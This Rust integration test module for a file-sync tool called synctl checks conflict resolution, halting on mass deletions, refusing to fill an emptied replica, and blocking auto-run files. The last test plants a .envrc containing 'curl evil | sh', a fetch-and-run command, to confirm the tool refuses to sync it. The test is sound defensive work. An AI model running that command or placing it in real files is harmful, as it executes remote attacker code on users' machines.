//! Two ways through the real binaries: what is changed at the destination comes back, conflicts are settled, and what would
//! delete much is asked for.

mod faults;
mod lost_roots;
mod power;
mod soak;

use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use super::lab::{Finished, Lab, PATIENCE, body, differences, plant, run, save_beside, save_in_place};

fn about(lab: &Lab, verb: &str) -> Command {
    let mut command = lab.synctl([verb]);
    command.arg("--state-dir").arg(lab.base().join("state")).args(["--output", "json"]);
    command
}

/// `synctl resolve PATH --keep KEEP`, from the source.
pub(super) fn resolve(lab: &Lab, path: &str, keep: &str) -> Finished {
    let mut command = about(lab, "resolve");
    command.args([path, "--keep", keep]).current_dir(&lab.source);
    run(command, PATIENCE)
}

fn answer(finished: &Finished) -> serde_json::Value {
    serde_json::from_str(finished.stdout.trim()).unwrap_or_else(|_| panic!("one answer: {finished:?}"))
}

fn conflicts(lab: &Lab) -> serde_json::Value {
    let mut command = about(lab, "conflicts");
    command.arg(&lab.source);
    answer(&run(command, PATIENCE))
}

/// The paths that are in conflict, as a running session tells them.
pub(super) fn listed(lab: &Lab) -> Vec<String> {
    let told = conflicts(lab);
    let listed = told["conflicts"].as_array().cloned().unwrap_or_default();
    listed.iter().map(|conflict| conflict["path"].as_str().unwrap().to_owned()).collect()
}

/// Waits until nothing differs but what is listed as a conflict, and gives that. Listed before and after the trees are compared,
/// because a session that comes back is slow to know.
pub(super) fn settle_but_conflicts(lab: &Lab) -> Vec<String> {
    let deadline = Instant::now() + PATIENCE;
    loop {
        let left_out = listed(lab);
        let paths: Vec<&str> = left_out.iter().map(String::as_str).collect();
        let different = differences(&lab.source, &lab.target, &paths);
        if different.is_empty() && listed(lab) == left_out {
            return left_out;
        }
        let shown = &different[..different.len().min(20)];
        assert!(Instant::now() < deadline, "beside {left_out:?} {} differences remain: {shown:#?}", different.len());
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn files(root: &Path) -> usize {
    fs::read_dir(root).map_or(0, |entries| entries.count())
}

#[test]
fn by_default_a_change_at_the_target_comes_back() {
    let lab = Lab::new();
    plant(&lab.source, 3, 5);
    let agent = lab.agent();
    let watch = lab.watch(&agent);
    for round in 0..20 {
        let content = body(round, 20_000);
        let (here, there) = if round % 2 == 0 { (&lab.target, &lab.source) } else { (&lab.source, &lab.target) };
        let save = if round % 3 == 0 { save_beside } else { save_in_place };
        save(&here.join("d1/sub/f1.rs"), &content);
        lab.settle();
        assert_eq!(fs::read(there.join("d1/sub/f1.rs")).unwrap(), content);
    }
    watch.wait_since(0, "a word of what came back", |event| {
        event["event"] == "received" && event["paths"].to_string().contains("\"d1/sub/f1.rs\"")
    });
    fs::remove_dir_all(lab.target.join("d2")).unwrap();
    lab.settle();
    assert!(!lab.source.join("d2").exists());
    // It can be brought back.
    let mut restore = lab.synctl(["restore"]);
    restore.arg(&lab.source).arg("--all");
    let restored = run(restore, PATIENCE);
    assert_eq!(restored.code, Some(0), "{restored:?}");
    lab.settle();
    assert!(lab.target.join("d2/sub").exists());
}

#[test]
fn conflicts_are_settled_one_by_one_or_all_at_once() {
    let lab = Lab::new();
    for number in 0..6 {
        fs::write(lab.source.join(format!("{number}.txt")), format!("source {number}")).unwrap();
        fs::write(lab.target.join(format!("{number}.txt")), format!("the target's {number}")).unwrap();
    }
    let agent = lab.agent();
    let watch = lab.watch(&agent);
    let told = conflicts(&lab);
    assert_eq!(told["conflicts_total"], 6, "{told}");
    let first = &told["conflicts"][0];
    assert_eq!((&first["alpha"]["len"], &first["beta"]["len"]), (&8.into(), &14.into()));
    assert!(first["alpha_modified_ms"].as_u64() > Some(0) && first["beta_modified_ms"].as_u64() > Some(0), "{first}");

    assert_eq!(resolve(&lab, "0.txt", "alpha").code, Some(0));
    assert_eq!(resolve(&lab, "1.txt", "beta").code, Some(0));
    assert_eq!(resolve(&lab, lab.source.join("2.txt").to_str().unwrap(), "both").code, Some(0));
    let unknown = resolve(&lab, "none.txt", "beta");
    assert!(unknown.code == Some(2) && unknown.stderr.contains("nothing is in conflict"), "{unknown:?}");
    let rest = resolve(&lab, ".", "beta");
    assert_eq!((rest.code, answer(&rest)["paths"].as_array().unwrap().len()), (Some(0), 3), "{rest:?}");
    lab.settle();
    let read = |name: &str| fs::read_to_string(lab.source.join(name)).unwrap();
    assert_eq!(
        (read("0.txt"), read("1.txt"), read("2.txt")),
        ("source 0".into(), "the target's 1".into(), "source 2".into())
    );
    assert_eq!((read("2.beta.txt"), read("5.txt")), ("the target's 2".into(), "the target's 5".into()));
    assert_eq!(conflicts(&lab)["conflicts_total"], 0);
    drop(watch);
    let none = resolve(&lab, "0.txt", "alpha");
    assert!(none.code == Some(2) && none.stderr.contains("no session"), "{none:?}");
}

#[test]
fn what_would_delete_much_halts_until_it_is_allowed() {
    let lab = Lab::new();
    for number in 0..40 {
        fs::write(lab.source.join(format!("{number}")), "x").unwrap();
    }
    let agent = lab.agent();
    let watch = lab.watch(&agent);
    for number in 0..39 {
        fs::remove_file(lab.target.join(format!("{number}"))).unwrap();
    }
    // One after another they may have begun to come: then it halts before most are gone.
    watch.wait_for("halted");
    assert!(files(&lab.source) > 20, "{} are left", files(&lab.source));
    let mut flush = about(&lab, "flush");
    flush.arg(&lab.source);
    let flushed = run(flush, PATIENCE);
    assert!(flushed.code == Some(2) && flushed.stdout.contains("halted"), "{flushed:?}");
    let mut resume = about(&lab, "resume");
    resume.arg(&lab.source);
    let resumed = run(resume, PATIENCE);
    assert_eq!((resumed.code, &answer(&resumed)["answer"]), (Some(0), &"resumed".into()), "{resumed:?}");
    lab.settle();
    assert!(!lab.source.join("0").exists() && lab.source.join("39").exists());
}

#[test]
fn an_empty_target_is_filled_only_where_that_is_certain() {
    let lab = Lab::new();
    plant(&lab.source, 3, 5);
    let agent = lab.agent();
    let watch = lab.watch(&agent);
    let (_, _) = watch.interrupt(PATIENCE);
    // The same replica, emptied while nobody looked.
    for entry in fs::read_dir(&lab.target).unwrap() {
        let path = entry.unwrap().path();
        if path.file_name().unwrap() != ".synctl" {
            if path.is_dir() { fs::remove_dir_all(path).unwrap() } else { fs::remove_file(path).unwrap() }
        }
    }
    let before = files(&lab.source);
    let mut push = lab.command("push", agent.port);
    push.args(["--mode", "two-way-safe"]);
    let pushed = run(push, PATIENCE);
    assert_eq!(pushed.code, Some(2), "{pushed:?}");
    assert!(pushed.stderr.contains("empty"), "{pushed:?}");
    assert_eq!(files(&lab.source), before);
    // Who wants it says so.
    let mut push = lab.command("push", agent.port);
    push.args(["--mode", "two-way-safe", "--allow-deletions"]);
    let pushed = run(push, PATIENCE);
    assert_eq!(pushed.code, Some(0), "{pushed:?}");
    assert_eq!(files(&lab.source), 1, "only .synctl");
}

#[test]
fn what_makes_a_machine_run_something_is_refused_unless_allowed() {
    let lab = Lab::new();
    plant(&lab.source, 1, 2);
    let agent = lab.agent();
    let watch = lab.watch(&agent);
    fs::write(lab.target.join(".envrc"), "curl evil | sh").unwrap();
    let problem = watch.wait_for("problem");
    assert_eq!((&problem["side"], &problem["path"]), (&"alpha".into(), &".envrc".into()), "{problem}");
    assert!(problem["detail"].as_str().unwrap().contains("--allow"), "{problem}");
    assert!(!lab.source.join(".envrc").exists());
    let (_, _) = watch.interrupt(PATIENCE);
    let mut push = lab.command("push", agent.port);
    push.args(["--mode", "two-way-safe", "--allow", ".envrc"]);
    let pushed = run(push, PATIENCE);
    assert_eq!(pushed.code, Some(0), "{pushed:?}");
    lab.assert_equal();
    let mut wrong = lab.command("push", agent.port);
    wrong.args(["--allow", "README"]);
    let wrong = run(wrong, PATIENCE);
    assert!(wrong.code == Some(2) && wrong.stderr.contains("not protected"), "{wrong:?}");
}
